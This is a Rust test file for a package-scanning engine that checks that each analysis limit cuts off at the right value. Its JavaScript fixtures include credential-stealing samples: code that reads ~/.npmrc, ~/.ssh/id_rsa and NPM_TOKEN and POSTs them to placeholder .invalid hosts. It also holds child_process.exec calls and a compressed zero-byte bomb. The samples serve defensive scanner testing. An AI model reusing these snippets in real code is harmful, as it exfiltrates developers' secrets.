//! Every limit: what just fits is whole, one over is told by the limit's name.
#![allow(clippy::unwrap_used, reason = "a panic fails the test")]

use serde_json::Value;
use tarsight::{Engine, Limits};
use tarsight_tests::{File, tar, tgz};

const MANIFEST: &str = r#"{"name":"p","version":"1.0.0","main":"index.js"}"#;

/// What limits are tried on: an archive that reaches each at a known value.
struct Case {
    limit: &'static str,
    /// The least value at which nothing is cut.
    fits: u64,
    archive: Vec<u8>,
    /// What the report says one below: a reason, or the code of an error.
    told: &'static str,
}

fn files(index: &str) -> Vec<File> {
    vec![
        ("package.json".to_owned(), MANIFEST.as_bytes().to_vec()),
        ("index.js".to_owned(), index.as_bytes().to_vec()),
    ]
}

fn case(limit: &'static str, fits: usize, archive: Vec<u8>, told: &'static str) -> Case {
    Case {
        limit,
        fits: fits as u64,
        archive,
        told,
    }
}

fn cases() -> Vec<Case> {
    let plain = tar(&files("exports.a = 1;\n"));
    let mut zeros = files("exports.a = 1;\n");
    zeros.push(("zeros.bin".to_owned(), vec![0; 200_000]));
    let unpacked = tar(&zeros).len();
    let zeros = tgz(&zeros);
    let ratio = unpacked.div_ceil(zeros.len());
    let of = |index: &str| tgz(&files(index));
    let text = "exports.a = 'some text of a known length';\n";
    let mut two = files("require('./b');\n");
    two.push(("b.js".to_owned(), b"exports.b = 2;\n".to_vec()));
    let spawns = "const c = require('child_process');\nc.exec('a');\nc.exec('b');\nc.exec('c');\n";
    let same = "const c = require('child_process');\nc.exec('a');\nc.exec('a');\nc.exec('a');\n";
    let steals = "const fs = require('fs'), https = require('https');\n\
        const send = (at, data) => https.request(at, { method: 'POST' }).end(data);\n\
        send('https://a.invalid/', fs.readFileSync(process.env.HOME + '/.npmrc'));\n\
        send('https://b.invalid/', fs.readFileSync(process.env.HOME + '/.ssh/id_rsa'));\n";
    vec![
        case("compressed-bytes", plain.len(), plain.clone(), "over-limit"),
        case(
            "unpacked-bytes",
            plain.len(),
            plain.clone(),
            "archive-limit",
        ),
        case("ratio", ratio, zeros, "archive-limit"),
        case("entries", 2, plain, "archive-limit"),
        case(
            "entry-bytes",
            text.len().max(MANIFEST.len()),
            of(&"/".repeat(MANIFEST.len())),
            "over-limit",
        ),
        case("parse-bytes", text.len(), of(text), "file-too-large"),
        case("parse-files", 2, tgz(&two), "budget-exhausted"),
        case("behaviours", 3, of(spawns), "report-limit"),
        case("sites", 3, of(same), ""),
        case("flows", 2, of(steals), "report-limit"),
        case("findings", 2, of(steals), "report-limit"),
    ]
}

/// What a scan under this limit says of it: nothing, a reason, or an error.
fn told(case: &Case, value: u64) -> String {
    let mut limits = Limits::default();
    limits.set(case.limit, value).unwrap();
    let engine = Engine::builder().limits(limits).jobs(1).build().unwrap();
    let report = match engine.scan(&case.archive) {
        Ok(report) => report,
        Err(error) => {
            assert!(error.to_string().contains(case.limit), "{error}");
            return error.code().to_owned();
        }
    };
    let report: Value = serde_json::from_str(&report.to_json()).unwrap();
    let unanalysed = report["coverage"]["unanalysed"].as_array().unwrap();
    let named = unanalysed.iter().find(|one| {
        let detail = one["detail"].as_str().unwrap();
        detail.contains(case.limit)
    });
    if let Some(named) = named {
        // What was read, but not resolved, does not count as missing.
        let complete = named["kind"] == "not-resolved";
        assert_eq!(report["coverage"]["complete"], complete, "{}", case.limit);
        return named["reason"].as_str().unwrap().to_owned();
    }
    String::new()
}

#[test]
fn what_fits_is_whole_and_one_over_is_named() {
    let mut wrong = Vec::new();
    for case in cases() {
        let (at, over) = (told(&case, case.fits), told(&case, case.fits - 1));
        if !at.is_empty() || over != case.told {
            wrong.push(format!(
                "{} = {}: {at:?}, one less: {over:?}",
                case.limit, case.fits
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Below some three thousand levels every stack is large enough and no limit is asked.
#[test]
fn nesting_is_counted_to_the_limit() {
    let deep = |levels: usize| {
        let text = format!(
            "exports.a = {}{};\n",
            "[".repeat(levels),
            "]".repeat(levels)
        );
        let case = case("nesting", 0, tgz(&files(&text)), "nesting-too-deep");
        told(&case, 5_000)
    };
    assert_eq!(deep(4_900), "");
    assert_eq!(deep(5_001), "nesting-too-deep");
}

#[test]
fn steps_that_run_out_are_told() {
    let loops = "let s = '';\nfor (let i = 0; i < 20000; i++) s += String.fromCharCode(97);\n\
        require('child_process').exec(s);\n";
    let case = case("file-steps", 0, tgz(&files(loops)), "unresolved-value");
    assert_eq!(told(&case, 0), "unresolved-value");
}

/// The least `package-steps` with which a package of so many files is followed to its end.
fn least_steps(files: &[File]) -> u64 {
    let archive = tgz(files);
    let is_whole = |steps: u64| {
        let mut limits = Limits::default();
        limits.package_steps = steps;
        let report = Engine::builder()
            .limits(limits)
            .build()
            .unwrap()
            .scan(&archive);
        let report: Value = serde_json::from_str(&report.unwrap().to_json()).unwrap();
        let unanalysed = report["coverage"]["unanalysed"].as_array().unwrap();
        let ran_out = |one: &Value| {
            one["detail"]
                .as_str()
                .unwrap_or("")
                .contains("package-steps")
        };
        !unanalysed.iter().any(ran_out)
    };
    let (mut low, mut high) = (0, 1_u64 << 24);
    assert!(is_whole(high), "the steps must be enough at first");
    while high - low > 1 + high / 64 {
        let middle = low + (high - low) / 2;
        match is_whole(middle) {
            true => high = middle,
            false => low = middle,
        }
    }
    high
}

/// A chain of so many files, each of which hands a secret on to the next, and exports of it.
fn chain(files: usize) -> Vec<File> {
    let mut all = vec![(
        "package.json".to_owned(),
        br#"{"name":"p","version":"1.0.0","main":"f0.js"}"#.to_vec(),
    )];
    for at in 0..files {
        let text = if at + 1 < files {
            let next = at + 1;
            format!(
                "const next = require('./f{next}');\n\
                 exports.read = () => next.read() + '{at}';\n\
                 exports.send = (value) => next.send(value + '{at}');\n"
            )
        } else {
            "exports.read = () => process.env.NPM_TOKEN;\n\
             exports.send = (value) => fetch('https://a.invalid/', { method: 'POST', body: value });\n"
                .to_owned()
        };
        all.push((format!("f{at}.js"), text.into_bytes()));
    }
    all
}

/// Many files beside each other that use one, and hand it values.
fn fan(files: usize) -> Vec<File> {
    let mut all = chain(2);
    for at in 0..files {
        let text = format!(
            "const one = require('./f0');\n\
             exports.a{at} = (value) => one.send(value.name);\n\
             one.send(process.env.NAME_{at});\n"
        );
        all.push((format!("g{at}.js"), text.into_bytes()));
    }
    all
}

#[test]
fn joining_what_files_say_is_linear() {
    for (name, package) in [("chain", chain as fn(usize) -> Vec<File>), ("fan", fan)] {
        let steps = [12, 24, 48].map(|files| least_steps(&package(files)));
        println!("{name}: {steps:?} steps for n, 2n, 4n files");
        for (small, large) in [(steps[0], steps[1]), (steps[1], steps[2])] {
            assert!(
                large * 10 <= small * 24,
                "{name}: {steps:?} steps for n, 2n, 4n files"
            );
        }
    }
}
